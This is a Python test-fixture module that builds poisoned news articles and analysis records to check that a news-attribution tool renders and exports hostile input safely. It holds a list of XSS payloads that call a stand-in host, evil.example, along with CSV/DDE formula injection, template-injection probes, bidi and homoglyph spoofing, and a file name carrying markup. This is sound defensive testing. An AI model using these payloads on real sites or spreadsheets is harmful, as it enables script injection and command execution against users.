"""A bundle of hostile articles, and the same poison in every field of records made by hand.

Whatever in it runs, loads or navigates shows: it sets ``window.canary``, changes the title, opens a dialog or
asks ``evil.example`` for something.
"""

from __future__ import annotations

import string
from pathlib import Path
from typing import Final

from earwitness.records import (
    AnyRecord,
    Belief,
    Block,
    Bound,
    Claim,
    Comparison,
    Document,
    Figure,
    Finding,
    Ghost,
    Grade,
    HeadlineCheck,
    Informs,
    Link,
    Origin,
    Party,
    Passage,
    Published,
    Quantity,
    Relay,
    Report,
    Source,
    Span,
    When,
    Wording,
)

RUN: Final = "window.canary=1;document.title='owned';alert(1);fetch('https://evil.example/')"
POISON: Final = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style><script>{RUN}</script><style>*{{display:none}}",
    f"</title><script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    '<img src="https://evil.example/pixel.png">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}"/></svg>',
    f'<details open ontoggle="{RUN}">',
    f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f'<a href="javascript:{RUN}">read more</a>',
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name=q autofocus></form>',
    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>",
    "<!-- ",
    "--><!--[if IE]>",
    "<![CDATA[",
    "]]>",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7 %>#{7}",
    "&lt;script&gt;&#60;script&#62;&notit;",
    '=HYPERLINK("https://evil.example/","x")',
    "+cmd|' /C calc'!A0",
    "\u202etxt.exe\u202c and \u2066isolated",
    "\u2067\u05d0\u05d1\u05d2 \u202d123",
    "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" * 8,
    "line\u2028separator\u2029paragraph\u0085next",
    "bell\x07 escape\x1b[31mred\x1b[0m null\x00 delete\x7f",
    "p\u0430ypal \u0410dmin\u200b\u200d\ufeff",  # Cyrillic letters and no width at all
    "\ud800 lone \udfff surrogates \ufffe\uffff",
    "",
    "   ",
)


def write_files(folder: Path) -> None:
    """The bundle as files: what an outsider could send."""
    folder.mkdir(exist_ok=True)
    for n, poison in enumerate(POISON):
        text = poison.encode("utf-8", "replace").decode()
        body = (
            f'{text or "Nothing"}\n\n"{text} leaks," the minister {text} said on Monday. He denied {text}.\n'
        )
        (folder / f"{n:02}-said.txt").write_text(body, encoding="utf-8")
    spoken = " ".join(f"{p.encode('utf-8', 'replace').decode()} leaks, said Mara Quill." for p in POISON[:19])
    page = f"<html><head><title>Dam leaks</title>{POISON[0]}{POISON[13]}{POISON[14]}{POISON[15]}</head>"
    page += (
        f'<body onload="{RUN}"><article><h1>Dam leaks</h1><p>{spoken}</p><p>The dam leaks, the mayor said.'
    )
    (folder / "page.html").write_text(page + "</p></article></body></html>", encoding="utf-8")
    nested = "The dam leaks"
    for n in range(50):
        nested = f"“{nested},” said Clerk {string.ascii_uppercase[n % 26]}" + ("." if n == 49 else "")
    (folder / "nested.txt").write_text(f"Fifty deep\n\n{nested}\n", encoding="utf-8")
    (folder / "latin.txt").write_bytes("Café\n\n“Très sûr,” said the mayor.\n".encode("windows-1252"))
    (folder / "wide.txt").write_bytes("Wide\n\n“It leaks,” said the mayor.\n".encode("utf-16"))
    (folder / "broken.txt").write_bytes(b'Broken\n\n"It \xff\xfe\xc3 leaks," said \xe9 the mayor.\n')
    (folder / "empty.txt").write_bytes(b"")
    (folder / "binary.txt").write_bytes(bytes(range(256)) * 64)
    (folder / "picture.html").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))
    (folder / "=1+1 <b onclick=alert(1)>.txt").write_text(
        "Name\n\nIt leaks, said the mayor.\n", encoding="utf-8"
    )
    rows = ["file,outlet,date,url"]
    addresses = (f"javascript:{RUN}", 'https://evil.example/"><script>', f"data:text/html,{POISON[0]}")
    for n, poison in enumerate(POISON[:24]):
        outlet = poison.replace('"', '""').replace("\n", " ")
        address = addresses[n % 3].replace('"', '""')
        rows.append(f'{n:02}-said.txt,"{outlet}",2019-09-11,"{address}"')
    (folder / "articles.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")


def long_line(characters: int) -> Document:
    """An article that is one line of so many characters, and one word."""
    text = "Long\n\n" + "x" * characters
    return Document(id="doc-long", received_as="long.txt", text=text, language="en", blocks=(
        Block("headline", 0, 4), Block("body", 6, len(text)),
    ))  # fmt: skip


def poisoned(poison: str, n: int) -> tuple[Document, list[Finding], list[AnyRecord], list[AnyRecord]]:
    """An article with *poison* in every field for words, its findings, lineage and beliefs."""
    text = f"{poison}\n\n{poison} said {poison} told {poison}."
    first = len(poison) + 2
    whole: Span = (first, len(text))
    document = Document(
        id=f"doc-{n}", received_as=poison, text=text, url=poison, outlet=poison, outlet_basis="inferred",
        headline=poison, language="en",
        published=Published(date=None, earliest="2019-09-11", latest=None, basis="inferred", why=poison),
        blocks=(Block("headline", 0, len(poison)), Block("body", *whole)),
    )  # fmt: skip
    party = Party(
        id=f"par-{n}", document=document.id, name=poison, kind="anonymous-official", role=poison,
        affiliation=poison, anonymity=whole, mentions=(whole,),
    )  # fmt: skip
    reports = [
        Report(
            id=f"rep-{n}-{m}", document=document.id,
            source=Source(((0, len(poison)),), party.id),
            cue=((first + len(poison) + 1, first + len(poison) + 5),), content=(whole,), kind="mixed",
            stance="denies", hedges=(whole,), verification=(whole,), confidence=0.4,
            relay=(Relay(party.id, "inferred"),) * 3, when=When(whole, None, "2019", None, poison),
        )
        for m in (1, 2)
    ]  # fmt: skip
    figures = [
        Figure(
            id=f"fig-{n}-{m}", document=document.id, span=whole, value=40.0 + m, low=None, high=None,
            unit=poison,
            what=poison, as_of=poison, report=f"rep-{n}-1",
        )
        for m in (1, 2)
    ]  # fmt: skip
    found: list[Finding] = [
        party,
        *reports,
        *figures,
        Informs(
            id=f"inf-{n}", document=document.id, informer=party.id, informed=party.id, manner="misleads",
            span=whole, motive=poison, report=f"rep-{n}-1",
        ),
        HeadlineCheck(
            id=f"chk-{n}", document=document.id, kind="unsaid-quote", span=(0, len(poison)), why=poison,
            reports=(f"rep-{n}-1",),
        ),
    ]  # fmt: skip
    ids = (f"rep-{n}-1", f"rep-{n}-2")
    merged = Party(
        id=f"par-all-{n}", document=None, name=poison, kind="named-person", members=(party.id,), why=(poison,)
    )
    lineage: list[AnyRecord] = [
        merged,
        Claim(
            id=f"clm-{n}", text=poison, reports=ids, origin_range=(1, 2), rules=(poison, poison),
            wordings=tuple(Wording(i, (whole,)) for i in ids),
        ),
        Origin(
            id=f"org-{n}", claim=f"clm-{n}", reports=ids, why=poison, parties=(merged.id,),
            ghosts=(f"gst-{n}",), certain=False,
        ),
        *(
            Link(
                id=f"lnk-{n}-{relation}", origin=ids[1], target=ids[0], relation=relation, probability=0.4,
                drift=("reattributed", "paraphrased"), denied="fact", evidence={"order": poison},
            )
            for relation in ("same-utterance", "denies")
        ),
        Comparison(
            id=f"cmp-{n}", origin=figures[0].id, target=figures[1].id, relation="conflict", why=poison
        ),
        Ghost(
            id=f"gst-{n}", name=poison, kind="document", date=poison, cited_in=(document.id,), reports=ids[:1]
        ),
    ]  # fmt: skip
    beliefs: list[AnyRecord] = [
        Belief(
            id=f"blf-{n}", claim=f"clm-{n}", probability=0.6, interval=(0.2, 0.9),
            origins=(Bound(1, poison), Bound(2, poison)), hinge=f"org-{n}", grade=Grade("F", "3"),
            phrase="likely",
            without=0.5, confidence="low", why=(poison, f"{poison} whom it serves to be believed: {poison}"),
        ),
        Quantity(
            id=f"qty-{n}", figures=(figures[0].id,), what=poison, unit=poison, as_of=poison, value=41.0,
            interval=(40.0, 42.0), origins=2, why=(poison, poison),
        ),
    ]  # fmt: skip
    return document, found, lineage, beliefs


def shared(documents: list[Document]) -> Passage:
    """Text in common of the first two articles, told with poison."""
    return Passage(
        id="psg-1", documents=(documents[0].id, documents[1].id), spans=(((0, 4), (0, 4)),),
        use="republished",
        earlier=None, why=POISON[0],
    )  # fmt: skip
